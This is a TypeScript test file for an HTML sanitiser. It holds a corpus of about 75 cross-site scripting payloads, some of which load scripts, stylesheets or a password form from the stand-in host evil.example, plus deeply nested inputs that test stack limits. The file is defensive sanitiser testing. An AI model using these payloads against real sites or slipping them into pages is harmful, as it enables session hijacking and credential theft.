import { describe, expect, test } from "vitest";
import { sanitiseHtml, textOf } from "~/platform/html/sanitise.ts";

const BASE = "https://site.example/post";

/** Attacks on sanitisers, old and new: each tries to get a script, a handler, a frame or a request past the allow-list. */
const CORPUS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<script>/*</script><img src=x onerror=alert(1)>*/",
  "<img src=x onerror=alert(1)>",
  "<img src=x onerror=alert(1)//",
  '<img """><script>alert(1)</script>">',
  "<img/src=x/onerror=alert(1)>",
  '<img src="x" srcset="javascript:alert(1) 1x, https://evil.example/2x 2x">',
  '<img src="javascript:alert(1)">',
  '<img src="x:gif" onerror="alert(1)" alt="`><script>alert(1)</script>">',
  '<img alt="</p><script>alert(1)</script>" src="/a.png">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="java&Tab;script&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="https://a.example/" onmouseover="alert(1)" style="position:fixed;inset:0">x</a>',
  '<a href="//a.example" target="_top" ping="https://evil.example/">x</a>',
  '<a href="mailto:a@b.example?body=<script>alert(1)</script>">x</a>',
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName=href values="javascript:alert(1)"/></svg>',
  '<svg><use href="data:image/svg+xml,<svg onload=alert(1)>"/></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<textarea><script>alert(1)</script></textarea><img src=x onerror=alert(1)>",
  "<title><img src=x onerror=alert(1)></title>",
  "<xmp><img src=x onerror=alert(1)></xmp>",
  "<plaintext><img src=x onerror=alert(1)>",
  "<noembed><img src=x onerror=alert(1)></noembed>",
  "<template><script>alert(1)</script></template>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<!--[if IE]><script>alert(1)</script><![endif]-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://www.youtube.com/embed/abcdefghijk" onload=alert(1) srcdoc="<b>x</b>"></iframe>',
  '<iframe src="https://www.youtube.com@evil.example/embed/abcdefghijk"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<applet code="x"></applet>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<base href="https://evil.example/">',
  "<style>@import 'https://evil.example/x.css';</style>",
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<body onload="alert(1)">',
  '<form action="https://evil.example/"><input name="password"><button formaction="javascript:alert(1)">x</button></form>',
  '<input autofocus onfocus="alert(1)">',
  '<select><option onclick="alert(1)">x</option></select>',
  '<details open ontoggle="alert(1)"><summary>x</summary></details>',
  '<video src="https://evil.example/v.mp4" onerror="alert(1)" autoplay></video>',
  '<audio src onloadstart="alert(1)">',
  '<video><source onerror="alert(1)"></video>',
  '<marquee onstart="alert(1)">x</marquee>',
  '<p id="__proto__" name="constructor">x</p><a id="createElement" name="cookie">y</a>',
  '<table background="javascript:alert(1)"><td background="x" onclick="alert(1)">x</td></table>',
  "<td>no table<script>alert(1)</script></td>",
  '<p dir="ltr" lang="en" is="x-evil" slot="y" part="z" accesskey="k" tabindex="1" contenteditable>x</p>',
  '<x-b onclick="alert(1)">x</x-b><x-script>alert(1)</x-script>',
  "<b onclick=alert(1)>bold</b onclick=alert(1)>",
  '<a href="https://a.example"><a href="javascript:alert(1)"><img src=x onerror=alert(1)>',
  "<p><<script>alert(1)//<</script>",
  "\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>",
  "＜script＞alert(1)＜/script＞",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
];

const ALLOWED_TAGS = new Set(
  "h2 h3 h4 h5 h6 p div blockquote pre hr br wbr ul ol li dl dt dd details summary figure figcaption img table caption colgroup col thead tbody tfoot tr th td a abbr b bdi bdo cite code del dfn em i ins kbd mark q rp rt ruby s samp small strong sub sup time u var".split(
    " ",
  ),
);
const ALLOWED_ATTRIBUTES =
  /^(id|lang|dir|title|href|rel|class|data-embed|span|open|src|alt|width|height|loading|decoding|referrerpolicy|value|start|reversed|type|colspan|rowspan|scope|datetime)$/;

/** Reads the result with the platform's own streaming parser: another parser than the sanitiser's. */
async function inspect(
  html: string,
): Promise<{ tags: string[]; attributes: [string, string, string][]; comments: number }> {
  const seen = { tags: [] as string[], attributes: [] as [string, string, string][], comments: 0 };
  const rewriter = new HTMLRewriter()
    .on("*", {
      element(element) {
        seen.tags.push(element.tagName);
        // The DOM's types hide the platform's: pairs of name and value.
        for (const [name = "", value = ""] of element.attributes as unknown as Iterable<string[]>)
          seen.attributes.push([element.tagName, name, value]);
      },
    })
    .onDocument({ comments: () => void seen.comments++ });
  await rewriter.transform(new Response(html, { headers: { "Content-Type": "text/html" } })).text();
  return seen;
}

async function expectHarmless(html: string) {
  const { tags, attributes, comments } = await inspect(html);
  expect(comments).toBe(0);
  expect(tags.filter((tag) => !ALLOWED_TAGS.has(tag))).toEqual([]);
  for (const [tag, name, value] of attributes) {
    expect(name).toMatch(ALLOWED_ATTRIBUTES);
    if (name === "href") expect(value).toMatch(/^(https?:\/\/|mailto:|#user-content-)/);
    if (name === "src") expect([tag, value]).toEqual(["img", expect.stringMatching(/^https?:\/\//)]);
    if (name === "id") expect(value).toMatch(/^user-content-/);
    if (name === "class") expect(value).toMatch(/^(embed|language-[\w+#-]+)$/);
  }
}

describe("attacks", () => {
  test.each(CORPUS)("%j", async (attack) => {
    for (const html of [
      attack,
      `<p>before ${attack} after</p>`,
      `<table><tr><td>${attack}`,
      `<ul><li><b>${attack}`,
    ]) {
      const once = sanitiseHtml(html, BASE);
      await expectHarmless(once);
      // What is stored may be parsed and cleaned again: nothing may come to life on the way.
      await expectHarmless(sanitiseHtml(once, BASE));
    }
  });

  test("the check itself tells harm from harmlessness", async () => {
    for (const harm of [
      '<img src="https://a.example/x" onerror="x">',
      "<b>a</b><!-- b -->",
      '<a href="javascript:x">y</a>',
    ])
      await expect(expectHarmless(harm)).rejects.toThrow();
  });

  test("no tag stands in the value of an attribute, where whoever looks for tags would find it", () => {
    expect(sanitiseHtml('<p title="</p><style>">a</p><pre lang="<pre>">b</pre>', BASE)).toBe(
      '<p title="&lt;/p&gt;&lt;style&gt;">a</p><pre lang="&lt;pre&gt;">b</pre>',
    );
  });

  test("text around an attack survives", () => {
    expect(sanitiseHtml("<p>before <img src=x onerror=alert(1)> after</p>", BASE)).toContain("before ");
    expect(textOf("<p>a<script>alert(1)</script>b</p>")).toBe("ab");
  });
});

describe("size and depth", () => {
  test.each([
    ["divs", `${"<div>".repeat(20_000)}core`],
    ["closed divs", `${"<div>".repeat(3_000)}core${"</div>".repeat(3_000)}`],
    ["quotes", `${"<blockquote><p>".repeat(10_000)}core`],
    ["lists", `${"<ul><li>".repeat(10_000)}core`],
    ["tables", `${"<table><tr><td>".repeat(5_000)}core`],
    ["spans", `${"<span>".repeat(50_000)}core`],
    ["different unclosed bolds", `${Array.from({ length: 5_000 }, (_, n) => `<b id=${n}><p>`).join("")}core`],
    ["links in links", `${Array.from({ length: 5_000 }, (_, n) => `<a href=/${n}><div></a>`).join("")}core`],
    ["many siblings in a foreign element", `<span>${"<br>".repeat(300_000)}</span>core`],
    ["tags without end", `core${"<b ".repeat(100_000)}`],
    ["ends without start", `${"</p></b></i>".repeat(20_000)}core`],
    ["entities", `core${"&amp".repeat(100_000)}`],
  ])("%s neither overflow the stack nor lose the text", async (_, html) => {
    expect(textOf(html)).toContain("core");
    const result = sanitiseHtml(html, BASE);
    expect(result).toContain("core");
    await expectHarmless(result);
  });
});
